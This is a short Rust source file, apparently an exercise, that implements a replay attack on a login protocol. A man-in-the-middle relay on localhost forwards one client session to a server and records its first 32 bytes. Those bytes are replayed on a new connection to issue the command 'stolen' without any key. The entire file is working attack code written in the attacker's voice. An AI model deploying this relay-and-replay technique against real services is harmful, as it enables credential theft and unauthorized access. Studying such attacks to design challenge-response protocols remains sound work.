//! First a relay on the path that writes a login down, then a client that says the same once more. It has no key.

use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, Shutdown, SocketAddr, TcpListener, TcpStream};
use std::thread;
use std::time::Duration;

/// What the attacker wants to be done.
const ORDER: &[u8] = b"stolen";
/// How long anybody may keep the attacker waiting.
const TIMEOUT: Duration = Duration::from_secs(5);

/// Carries one connection to the server, then logs in with what it has heard.
pub fn attack(server: SocketAddr) -> io::Result<()> {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
    println!("listening on {}", listener.local_addr()?);
    let (client, _) = listener.accept()?;
    let heard = carry(client, dial(server)?)?;
    let recorded = heard.get(..32).ok_or(io::Error::other("the client has not logged in"))?;

    let mut stream = dial(server)?;
    if stream.read(&mut [0; 64])? == 0 {
        return Err(io::Error::other("the server does not ask anything"));
    }
    stream.write_all(&[recorded, ORDER].concat())?;
    let mut reply = vec![0; ORDER.len()];
    stream.read_exact(&mut reply).map_err(|_| io::Error::other("what was recorded opens nothing"))?;
    println!("served without a key: {}", String::from_utf8_lossy(&reply));
    Ok(())
}

fn dial(server: SocketAddr) -> io::Result<TcpStream> {
    let stream = TcpStream::connect(server)?;
    stream.set_read_timeout(Some(TIMEOUT))?;
    stream.set_write_timeout(Some(TIMEOUT))?;
    Ok(stream)
}

/// Hands on everything in both directions until both have ended, and gives what the client said.
fn carry(mut client: TcpStream, mut server: TcpStream) -> io::Result<Vec<u8>> {
    let (mut answers, mut back) = (server.try_clone()?, client.try_clone()?);
    let answering = thread::spawn(move || {
        let _ = io::copy(&mut answers, &mut back);
        let _ = back.shutdown(Shutdown::Write);
    });
    let mut heard = Vec::new();
    let mut piece = [0; 1024];
    while let Ok(length @ 1..) = client.read(&mut piece) {
        heard.extend_from_slice(&piece[..length]);
        if server.write_all(&piece[..length]).is_err() {
            break;
        }
    }
    let _ = server.shutdown(Shutdown::Write);
    let _ = answering.join();
    Ok(heard)
}
